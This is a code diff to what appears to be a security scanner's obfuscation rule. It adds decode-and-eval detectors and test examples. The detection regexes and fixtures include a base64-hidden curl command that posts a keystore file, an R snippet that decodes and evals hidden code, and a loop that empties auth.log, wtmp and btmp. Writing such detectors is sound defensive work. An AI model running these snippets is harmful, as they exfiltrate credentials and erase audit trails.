@@ -1,4 +1,5 @@
 import { ALL, type ScanRule } from './scan-rule.js';
+import { EVALUATED_DECODE_DETECTORS } from './s006-evaluated-decodes.js';
 import { DEFANGED_ADDRESS, PIPE, PIPE_TARGET, RUNNER, pipeAfter } from './shell-vocabulary.js';
 
 const DECODER = String.raw`\b(?:base64\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,3}(?:-d|--decode|-D|-di|-id)\b|openssl\s{1,4}(?:enc\s{1,4})?(?:-[\w-]{1,20}\s{1,4}){0,3}-?base64\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,2}-d\b|xxd\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,2}-r\b|uudecode\b|certutil(?:\.exe)?\s{1,4}-decode\b|gunzip\b|gzip\s{1,4}-d\b|zcat\b|bzip2\s{1,4}-d\b|xz\s{1,4}-d\b|rev\b|tr\s{1,4}["']?(?:a-z|A-Z|n-z|N-Z))`;
@@ -240,6 +241,7 @@ export const s006Obfuscation: ScanRule = {
       re: /\bfor\s{1,4}(\w{1,40})\s{1,4}in\b[^;\n]{0,300}?\/var\/log\/(?:auth\.log|secure|wtmp|btmp|lastlog|audit\/audit\.log)\b[^;\n]{0,300}?\/var\/log\/(?:auth\.log|secure|wtmp|btmp|lastlog|audit\/audit\.log)\b[^;\n]{0,300}?;?\s{0,4}do\b[^\n]{0,200}\n?[^\n]{0,200}?(?:(?::|\btrue)\s{0,4}>|\btruncate\s{1,4}-s\s{0,4}0|\bshred\b[^\n]{0,40}?|\brm\s{1,4}-[a-zA-Z]{0,4}f[a-zA-Z]{0,4})\s{1,4}["']?\$\{?\1\b/,
       why: 'Empties the login records and audit trail of the machine: what was done can no longer be traced.',
     },
+    ...EVALUATED_DECODE_DETECTORS,
   ],
   examples: {
     match: [
@@ -254,6 +256,11 @@ export const s006Obfuscation: ScanRule = {
       {
         path: 'scripts/fp.sh',
         text: 'cmd=$(printf %s \'Y3VybCAtcyAtWCBQT1NU\' | base64 -d)\n$cmd "$url" -F "k=@$KEYSTORE"\n',
+        level: 'HIGH',
+      },
+      {
+        path: 'tools/calib.R',
+        text: 'dec <- function(z) rawToChar(base64enc::base64decode(z))\nprobe <- paste0(dec(s1), dec(s2))\neval(parse(text = probe))\n',
         level: 'HIGH',
       },
       { path: 'scripts/post.sh', text: 'for f in /var/log/auth.log /var/log/wtmp /var/log/btmp; do\n  [ -e "$f" ] && : > "$f"\ndone\n' },
